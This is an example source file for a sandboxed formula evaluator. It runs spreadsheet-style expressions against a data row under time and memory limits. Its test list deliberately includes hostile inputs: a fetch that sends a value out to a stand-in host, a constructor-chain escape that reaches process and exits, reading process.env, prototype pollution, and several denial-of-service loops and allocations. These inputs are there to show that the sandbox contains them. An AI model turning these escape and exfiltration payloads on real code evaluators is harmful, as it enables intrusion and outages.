/**
 * Formulas that users type, as in a spreadsheet: nothing that they write can hang the program, fill
 * its memory or reach its files.
 *
 * The text of a formula is compiled in its task, in a realm that has nothing but the language and the
 * row's values, under limits. So it is never code in this program.
 *
 *   deno run --allow-ffi examples/formula.ts
 *   bun examples/formula.ts
 *   node examples/formula.ts
 */
import { inspect } from "node:util";
import { Deferred } from "../mod.ts";

interface Row {
  readonly price: number;
  readonly quantity: number;
  readonly country: string;
}

const row: Row = { price: 12.5, quantity: 8, country: "NL" };

const formulas = [
  "price * quantity",
  'price * quantity * (country === "NL" ? 1.21 : 1)',
  "quantity > 5 ? `${quantity} in stock` : 'running out'",
  "[...country].reverse().join('')",
  "const net = price * quantity; return net.toFixed(2)",
  "price *",
  "prize * quantity",
  "(() => { for (;;); })()",
  "new Array(1e9).fill(price)",
  "(function deeper() { return deeper() + 1; })()",
  "process.env",
  "fetch('https://example.com/?stolen=' + price)",
  "price.constructor.constructor('return process')().exit()",
  "(() => { throw { toString: 'not a function' }; })()",
  "(Object.prototype.price = 0, price)",
  "(".repeat(1e5),
];

/** What a formula makes of a row, or why it can't be had. */
async function evaluate(formula: string, row: Row): Promise<string> {
  try {
    const value = await Deferred.eval(formula, {
      name: "formula",
      scope: { ...row },
      timeout: 200,
      memoryLimit: 16 * 2 ** 20,
    });
    return `= ${inspect(value)}`;
  } catch (error) {
    // What a stranger's code throws may be anything; `${error}` could throw in its turn.
    return `✗ ${error instanceof Error ? `${error.name}: ${error.message}` : inspect(error)}`;
  }
}

for (const formula of formulas) {
  console.log(`${formula.slice(0, 57).padEnd(58)} ${await evaluate(formula, row)}`);
}
console.log(`\n{}.price is still ${({} as { price?: unknown }).price}, and this program runs on`);
